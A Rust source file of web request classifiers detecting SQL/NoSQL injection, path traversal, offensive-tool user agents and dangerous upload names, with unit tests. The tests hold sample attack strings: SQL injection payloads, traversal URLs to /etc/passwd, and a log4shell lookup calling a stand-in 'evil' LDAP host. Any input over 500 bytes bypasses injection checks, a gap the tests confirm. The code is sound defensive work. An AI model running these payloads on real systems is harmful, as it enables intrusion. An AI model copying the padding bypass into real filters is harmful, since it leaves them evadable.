/// Stateless request classifiers.
///
/// Every detector is a pure function over request text, driven by a
/// declarative signature table so new signatures can be added and tested
/// without touching control flow. The tables are deliberately short and
/// high-confidence: the engine is tuned to prefer false negatives over
/// false positives, because blocking legitimate traffic is the worse
/// failure mode here.
use once_cell::sync::Lazy;
use regex::Regex;

/// A named detection signature.
#[derive(Debug)]
pub struct Signature {
    /// Short identifier surfaced in audit events
    pub name: &'static str,
    pub pattern: Regex,
}

impl Signature {
    fn new(name: &'static str, pattern: &str) -> Self {
        Self {
            name,
            // Table patterns are compile-time constants; a failure here is
            // a programming error caught by the table tests below.
            pattern: Regex::new(pattern).unwrap(),
        }
    }
}

// =============================================================================
// SQL / NOSQL INJECTION
// =============================================================================

/// Default cap on inspected input length; configurable via
/// `policy.max_inspected_len`. Inputs longer than the cap are treated as
/// content (product descriptions, rich text), not attack payloads:
/// real injection payloads are short, and long-field matching is where the
/// false positives live.
pub const MAX_INSPECTED_LEN: usize = 500;

static SQL_SIGNATURES: Lazy<Vec<Signature>> = Lazy::new(|| {
    vec![
        Signature::new("union-select", r"(?i)union[\s/*+]+select"),
        Signature::new("stacked-query", r"(?i);\s*(drop|delete|insert|update)\b"),
        Signature::new("quoted-tautology", r"(?i)'\s*or\s*'[^']*'\s*=\s*'"),
        Signature::new("comment-terminator", r"(?i)('\s*--)|(--\s*$)|(#\s*$)"),
        Signature::new(
            "time-delay",
            r"(?i)\b(sleep|benchmark)\s*\(|waitfor\s+delay",
        ),
        Signature::new(
            "file-access",
            r"(?i)\bload_file\s*\(|into\s+(outfile|dumpfile)",
        ),
    ]
});

/// Test a single input value against the SQL injection table.
///
/// Returns the first matching signature, or `None` for clean input and for
/// input over `max_inspected_len` bytes.
pub fn match_sql_injection(text: &str, max_inspected_len: usize) -> Option<&'static Signature> {
    if text.len() > max_inspected_len {
        return None;
    }
    SQL_SIGNATURES.iter().find(|sig| sig.pattern.is_match(text))
}

/// NoSQL structural operator keys that imply server-side code execution.
/// The minimal set on purpose; `$gt`/`$ne` style operators are ordinary
/// query shapes in legitimate clients.
const NOSQL_OPERATORS: &[&str] = &["$where", "$function", "$accumulator"];

pub fn match_nosql_injection(text: &str, max_inspected_len: usize) -> Option<&'static str> {
    if text.len() > max_inspected_len {
        return None;
    }
    NOSQL_OPERATORS.iter().copied().find(|op| text.contains(op))
}

// =============================================================================
// PATH TRAVERSAL
// =============================================================================

/// Traversal markers checked against the raw and decoded URL. Substring
/// matching is sufficient here; encoders cannot hide `..` from both the
/// raw and decoded views at once.
const TRAVERSAL_MARKERS: &[&str] = &["../", "..\\", "%2e%2e", "..%2f", "..%5c", "%00"];

pub fn match_path_traversal(url: &str) -> Option<&'static str> {
    let lower = url.to_ascii_lowercase();
    if lower.contains('\0') {
        return Some("%00");
    }
    let decoded = urlencoding::decode(&lower)
        .map(|d| d.into_owned())
        .unwrap_or_else(|_| lower.clone());
    if decoded.contains('\0') {
        return Some("%00");
    }
    TRAVERSAL_MARKERS
        .iter()
        .copied()
        .find(|m| lower.contains(m) || decoded.contains(m))
}

// =============================================================================
// MALICIOUS USER AGENTS
// =============================================================================

/// Known offensive-security tool signatures plus log4shell-style lookup
/// markers. Generic HTTP clients (curl, python-requests, monitoring bots)
/// are deliberately absent: blocking API integrations over a User-Agent
/// string is exactly the false positive this engine avoids.
const MALICIOUS_UA_MARKERS: &[&str] = &[
    "sqlmap",
    "nikto",
    "masscan",
    "dirbuster",
    "gobuster",
    "wpscan",
    "nessus",
    "acunetix",
    "metasploit",
    "hydra",
    "burpsuite",
    "havij",
    "w3af",
    "nmap scripting engine",
    "${jndi",
    "${lower",
    "${upper",
];

pub fn match_malicious_user_agent(user_agent: &str) -> Option<&'static str> {
    let lower = user_agent.to_ascii_lowercase();
    MALICIOUS_UA_MARKERS
        .iter()
        .copied()
        .find(|marker| lower.contains(marker))
}

// =============================================================================
// FILE UPLOADS
// =============================================================================

/// Extensions that are executable or interpreted server-side.
const DANGEROUS_EXTENSIONS: &[&str] = &[
    "php", "php3", "php4", "php5", "phtml", "asp", "aspx", "jsp", "jspx", "cgi", "pl", "py",
    "rb", "sh", "bash", "exe", "dll", "msi", "com", "scr", "bat", "cmd", "vbs", "hta", "jar",
    "war", "ps1",
];

fn is_dangerous_segment(segment: &str) -> bool {
    let lower = segment.to_ascii_lowercase();
    DANGEROUS_EXTENSIONS.iter().any(|ext| *ext == lower)
}

/// True when the filename's final extension is on the deny list.
pub fn is_dangerous_extension(filename: &str) -> bool {
    filename
        .rsplit_once('.')
        .map(|(_, ext)| is_dangerous_segment(ext))
        .unwrap_or(false)
}

/// True when any interior extension-like segment of a multi-dot filename
/// is on the deny list (`shell.php.jpg` style extension spoofing).
pub fn has_double_extension_attack(filename: &str) -> bool {
    let segments: Vec<&str> = filename.split('.').collect();
    if segments.len() < 3 {
        return false;
    }
    // Skip the base name and the final (apparent) extension.
    segments[1..segments.len() - 1]
        .iter()
        .any(|seg| is_dangerous_segment(seg))
}

// =============================================================================
// JSON BODY SHAPE
// =============================================================================

/// Nesting depth of a parsed JSON body. Scalars count as depth 1.
pub fn json_depth(value: &serde_json::Value) -> usize {
    match value {
        serde_json::Value::Array(items) => {
            1 + items.iter().map(json_depth).max().unwrap_or(0)
        }
        serde_json::Value::Object(map) => {
            1 + map.values().map(json_depth).max().unwrap_or(0)
        }
        _ => 1,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_sql_injection_signatures() {
        let attacks = [
            "union select * from users",
            "1; drop table orders",
            "x'; delete from products --",
            "' or '1'='1",
            "id=1 and sleep(5)",
            "load_file('/etc/passwd')",
            "1 into outfile '/tmp/x'",
            "name' -- ",
        ];
        for attack in attacks {
            assert!(
                match_sql_injection(attack, MAX_INSPECTED_LEN).is_some(),
                "failed to detect: {}",
                attack
            );
        }
    }

    #[test]
    fn test_legitimate_text_passes() {
        let clean = [
            "blue cotton t-shirt, size XL",
            "select your delivery option",
            "order #1234 - union square pickup",
            "what's the return policy?",
            "benchmark results for Q3",
        ];
        for text in clean {
            assert!(
                match_sql_injection(text, MAX_INSPECTED_LEN).is_none(),
                "false positive for: {}",
                text
            );
        }
    }

    #[test]
    fn test_length_exemption_boundary() {
        let payload = "union select ".to_string() + &"a".repeat(488);
        assert!(payload.len() > MAX_INSPECTED_LEN);
        assert!(match_sql_injection(&payload, MAX_INSPECTED_LEN).is_none());

        let short = "union select ".to_string() + &"a".repeat(387);
        assert!(short.len() <= MAX_INSPECTED_LEN);
        assert!(match_sql_injection(&short, MAX_INSPECTED_LEN).is_some());
    }

    #[test]
    fn test_length_cap_is_caller_controlled() {
        let payload = "union select 1";
        assert!(match_sql_injection(payload, MAX_INSPECTED_LEN).is_some());
        assert!(match_sql_injection(payload, 10).is_none());
        assert!(match_nosql_injection(r#"{"$where": 1}"#, 5).is_none());
    }

    #[test]
    fn test_nosql_operator_keys() {
        assert_eq!(
            match_nosql_injection(r#"{"$where": "this.a == 1"}"#, MAX_INSPECTED_LEN),
            Some("$where")
        );
        assert!(match_nosql_injection(r#"{"$function": {}}"#, MAX_INSPECTED_LEN).is_some());
        assert!(match_nosql_injection(r#"{"$accumulator": {}}"#, MAX_INSPECTED_LEN).is_some());
        // Comparison operators are legitimate query shapes
        assert!(match_nosql_injection(r#"{"price": {"$gt": 10}}"#, MAX_INSPECTED_LEN).is_none());
    }

    #[test]
    fn test_path_traversal_markers() {
        assert!(match_path_traversal("/api/files/../../etc/passwd").is_some());
        assert!(match_path_traversal("/api/files/..%2f..%2fetc").is_some());
        assert!(match_path_traversal("/files/%2e%2e/%2e%2e/secret").is_some());
        assert!(match_path_traversal("/download?f=report%00.pdf").is_some());
        assert!(match_path_traversal("/api/files/..\\..\\win.ini").is_some());
    }

    #[test]
    fn test_normal_paths_pass() {
        assert!(match_path_traversal("/api/products?page=2").is_none());
        assert!(match_path_traversal("/static/css/app.min.css").is_none());
        // A literal ".." inside a filename without a separator is fine
        assert!(match_path_traversal("/docs/v1..v2-changelog").is_none());
    }

    #[test]
    fn test_malicious_user_agents() {
        assert_eq!(match_malicious_user_agent("sqlmap/1.6"), Some("sqlmap"));
        assert!(match_malicious_user_agent("Mozilla/5.0 Nikto/2.1.6").is_some());
        assert!(match_malicious_user_agent("${jndi:ldap://evil/a}").is_some());
        assert!(match_malicious_user_agent("${lower:j}ndi").is_some());
    }

    #[test]
    fn test_generic_clients_not_flagged() {
        assert!(match_malicious_user_agent("curl/8.4.0").is_none());
        assert!(match_malicious_user_agent("python-requests/2.31").is_none());
        assert!(match_malicious_user_agent("Mozilla/5.0 (X11; Linux x86_64)").is_none());
        assert!(match_malicious_user_agent("UptimeRobot/2.0").is_none());
    }

    #[test]
    fn test_dangerous_extensions() {
        assert!(is_dangerous_extension("shell.php"));
        assert!(is_dangerous_extension("payload.EXE"));
        assert!(is_dangerous_extension("script.ps1"));
        assert!(!is_dangerous_extension("photo.jpg"));
        assert!(!is_dangerous_extension("invoice.pdf"));
        assert!(!is_dangerous_extension("README"));
    }

    #[test]
    fn test_double_extension_attacks() {
        assert!(has_double_extension_attack("shell.php.jpg"));
        assert!(has_double_extension_attack("backdoor.asp.png.gif"));
        assert!(!has_double_extension_attack("archive.tar.gz"));
        assert!(!has_double_extension_attack("photo.jpg"));
        assert!(!has_double_extension_attack("noext"));
    }

    #[test]
    fn test_json_depth() {
        let flat: serde_json::Value = serde_json::json!({"a": 1, "b": "x"});
        assert_eq!(json_depth(&flat), 2);

        let nested: serde_json::Value = serde_json::json!({"a": {"b": {"c": [1, 2]}}});
        assert_eq!(json_depth(&nested), 5);

        assert_eq!(json_depth(&serde_json::json!(null)), 1);
        assert_eq!(json_depth(&serde_json::json!({})), 1);
    }

    #[test]
    fn test_signature_tables_compile() {
        // Forces the lazy tables and asserts every pattern built.
        assert_eq!(SQL_SIGNATURES.len(), 6);
    }
}
